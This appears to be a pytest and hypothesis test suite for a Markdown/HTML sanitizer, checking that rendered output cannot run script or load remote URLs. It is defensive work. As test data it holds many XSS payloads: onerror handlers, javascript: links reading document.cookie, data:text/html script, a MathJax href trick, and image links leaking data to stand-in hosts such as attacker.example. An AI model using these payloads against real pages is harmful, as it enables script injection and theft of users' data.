"""markup: Markdown and HTML that cannot carry script, whatever the text holds."""

from __future__ import annotations

from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from openai_artifacts_nb.markup import (
    MATH_PROCESS,
    escape,
    image_allowed,
    link_allowed,
    markdown_html,
    markdown_plain,
    sanitize,
)

FORBIDDEN_TAGS = {
    "script", "style", "iframe", "object", "embed", "svg", "math", "form", "input", "button", "textarea",
    "link", "meta", "base", "frame", "frameset", "applet", "audio", "video", "source", "template", "noscript",
    "select", "option", "portal", "xmp", "plaintext", "noembed", "dialog",
}  # fmt: skip
URL_ATTRIBUTES = {
    "href",
    "src",
    "action",
    "formaction",
    "xlink:href",
    "poster",
    "background",
    "srcset",
    "ping",
}


class Inspector(HTMLParser):
    """Collects every start tag with its attributes, and the text, as a browser's tokenizer sees them."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str]]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, {name: value or "" for name, value in attrs}))

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def inspect(markup: str) -> Inspector:
    parser = Inspector()
    parser.feed(markup)
    parser.close()
    return parser


def assert_inert(markup: str) -> None:
    """No tag that runs or embeds, no event handler, no script URL, no image or style that loads a URL."""
    for tag, attrs in inspect(markup).tags:
        assert tag not in FORBIDDEN_TAGS, (tag, markup)
        for name, value in attrs.items():
            assert not name.startswith("on"), (tag, name, markup)
            if name in URL_ATTRIBUTES:
                scheme = urlsplit(value.strip()).scheme.lower()
                assert scheme in {"", "http", "https", "mailto", "data"}, (tag, name, value)
                if scheme == "data":
                    assert value.lower().startswith(("data:image/", "data:application/octet-stream")), value
                if tag == "img":
                    assert scheme in {"", "data"} and not value.strip().startswith(("//", "\\")), value
            if name == "style":
                assert "url(" not in value.lower() and "expression" not in value.lower(), value


PIECES = st.sampled_from(
    [
        "`", "``", "```", "~~~", "\\`", "\\", "$", "$$", "\\(", "\\)", "\\[", "\\]", "<", ">", "</", "<!--",
        "-->", "&", "&lt;", "&#60;", "&#x3C;", "&amp;lt;", "\n", "\n\n", "    ", "\t", "[", "]", "(", ")",
        "!", "*", "_", "|", "---", "# ", "> ", "- ", "1. ", '"', "'", "=", ":", "/", "<script>",
        "</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<iframe src=//evil>",
        "<a href=javascript:alert(1)>", "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:x",
        "vbscript:x", "data:text/html,<script>alert(1)</script>", "data:image/svg+xml,<svg onload=x>",
        "//evil.com/x.png", "https://evil.com/?q=secret", "sandbox:/mnt/data/a.csv", "a.csv", "x y",
        "\\href{javascript:alert(1)}{x}", "\\class{x}{y}", "\\style{color:red}{y}", "<details open>",
        "<style>*{}</style>", "<math><mi>x</mi></math>", "<object data=x>", '" onmouseover="alert(1)',
        "' onfocus='x", "{{", "}}", "\x00", "\u2028", "é", "<!DOCTYPE html>", "<![CDATA[", "]]>", "<?php",
    ]
)  # fmt: skip
TEXT = st.lists(st.one_of(PIECES, st.text(max_size=6)), max_size=40).map("".join)
LINK = st.tuples(TEXT, st.one_of(PIECES, TEXT)).map(lambda pair: f"[{pair[0]}]({pair[1]})")
IMAGE = st.tuples(TEXT, st.one_of(PIECES, TEXT)).map(lambda pair: f"![{pair[0]}]({pair[1]})")
MARKDOWN = st.lists(st.one_of(TEXT, LINK, IMAGE), max_size=8).map(" ".join)


@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(MARKDOWN)
def test_no_markdown_renders_to_live_markup(text: str) -> None:
    assert_inert(markdown_html(text))


@settings(max_examples=300, deadline=None)
@given(TEXT)
def test_sanitize_makes_any_html_inert(markup: str) -> None:
    assert_inert(sanitize(markup))


@pytest.mark.parametrize(
    "text",
    [
        "\\`<img src=x onerror=alert(1)>`",
        "`code\n\nspan <img src=x onerror=alert(1)>`",
        "```py`x\n<script>alert(1)</script>\n```",
        "$`$ <img src=x onerror=alert(1)> `$`",
        "    <script>alert(1)</script>",
        "<details><summary>x</summary><script>alert(1)</script></details>",
        "[click](javascript:alert(document.cookie))",
        "[click](JAVASCRIPT:alert(1) 'title')",
        "[ref]\n\n[ref]: javascript:alert(1)",
        "<javascript:alert(1)>",
        "![x](https://attacker.example/?leak=secret)",
        "![x](//attacker.example/p.png)",
    ],
)
def test_known_escapes_from_the_old_regexes_are_inert(text: str) -> None:
    result = markdown_html(text)
    assert_inert(result)
    assert "<script" not in result and "onerror=" not in result.replace("onerror=alert", "")


def test_raw_html_is_shown_as_text() -> None:
    result = markdown_html("<b>bold?</b> **bold**")
    assert "&lt;b&gt;bold?&lt;/b&gt;" in result
    assert "<strong>bold</strong>" in result


def test_links_keep_http_and_relative_targets_and_drop_the_rest() -> None:
    result = markdown_html("[a](https://x.org/p) [b](out/a%20b.csv) [c](javascript:alert(1)) [d](//evil)")
    tags = [attrs for tag, attrs in inspect(result).tags if tag == "a"]
    assert [attrs["href"] for attrs in tags] == ["https://x.org/p", "out/a%20b.csv"]
    assert all("noopener" in attrs["rel"] for attrs in tags)


def test_images_load_only_saved_files() -> None:
    result = markdown_html("![chart](out/chart.png) ![remote](https://evil.example/t.png)")
    images = [attrs["src"] for tag, attrs in inspect(result).tags if tag == "img"]
    assert images == ["out/chart.png"]
    assert '<a href="https://evil.example/t.png"' in result


def test_math_is_kept_for_mathjax_and_money_is_not_math() -> None:
    result = markdown_html("Area $\\pi r^2$ costs $5 and $10; also \\(a_1\\) and\n\n$$\nx_2\n$$")
    processed = [
        text for text in inspect(result).text if text.startswith("$") and text.endswith("$") and len(text) > 2
    ]
    assert processed == ["$\\pi r^2$", "$a_1$", "$$x_2$$"]
    assert result.count(MATH_PROCESS) == 3
    assert "costs $5 and $10" in result
    assert "mathjax_ignore" in result.split(">", 1)[0]


def test_math_with_commands_that_reach_the_dom_is_not_typeset() -> None:
    result = markdown_html("$\\href{javascript:alert(1)}{x}$ and $\\cssId{a}{b}$")
    assert MATH_PROCESS not in result
    assert "$\\href{javascript:alert(1)}{x}$" in result


def test_tables_and_code_render() -> None:
    result = markdown_html("| a | b |\n|--:|---|\n| 1 | <i> |\n\n```python\nx = '<b>'\n```")
    assert '<th style="text-align:right">a</th>' in result
    assert "<td>&lt;i&gt;</td>" in result
    assert "x = '&lt;b&gt;'" in result or "x = &#x27;&lt;b&gt;&#x27;" in result


def test_url_rules() -> None:
    assert link_allowed("https://a.b/c") and link_allowed("x/y.csv") and link_allowed("a%20b.csv")
    assert not link_allowed("javascript:x") and not link_allowed("//evil") and not link_allowed("\\\\evil")
    assert not link_allowed("data:text/html,x") and not link_allowed("file:///etc/passwd")
    assert image_allowed("out/a.png") and image_allowed("data:image/png;base64,AAAA")
    assert not image_allowed("https://evil/a.png") and not image_allowed("data:text/html;base64,AAAA")


def test_sanitize_keeps_our_markup_and_drops_unknown_classes_and_url_styles() -> None:
    ours = (
        '<div class="oai-artifact-card evil" style="color:#777;background:url(https://x)">'
        '<a class="oai-artifact-link" href="a.csv" download="a.csv" target="_top">a.csv</a>'
        '<a href="data:application/octet-stream;base64,QUJD" download="a.csv">copy</a>'
        '<a href="data:text/html;base64,QUJD">bad</a></div>'
    )
    result = sanitize(ours)
    assert 'class="oai-artifact-card"' in result
    assert "url(" not in result and "color:#777" in result
    assert 'target="_blank"' in result and 'download="a.csv"' in result
    assert "data:application/octet-stream;base64,QUJD" in result and "data:text/html" not in result


def test_escape_quotes_attributes() -> None:
    assert escape('"><script>') == "&quot;&gt;&lt;script&gt;"
    assert escape("it's") == "it&#x27;s"


def test_plain_text_has_no_markdown_escapes_and_shows_link_targets() -> None:
    text = (
        "# Result\n\nSee [by\\_product.png](out/by_product.png) and `a\\_b` **bold** <b>raw</b>.\n\n"
        "- one\n- two\n\n1. x\n2. y\n\n```py\ncode()\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n"
        "> quote $x$\n\n![chart](out/c.png) <https://x.org>"
    )
    assert markdown_plain(text).split("\n") == [
        "# Result",
        "",
        "See by_product.png (out/by_product.png) and `a\\_b` bold <b>raw</b>.",
        "",
        "- one",
        "- two",
        "",
        "1. x",
        "2. y",
        "",
        "    code()",
        "",
        "a | b",
        "1 | 2",
        "",
        "> quote $x$",
        "",
        "chart (out/c.png) https://x.org",
    ]
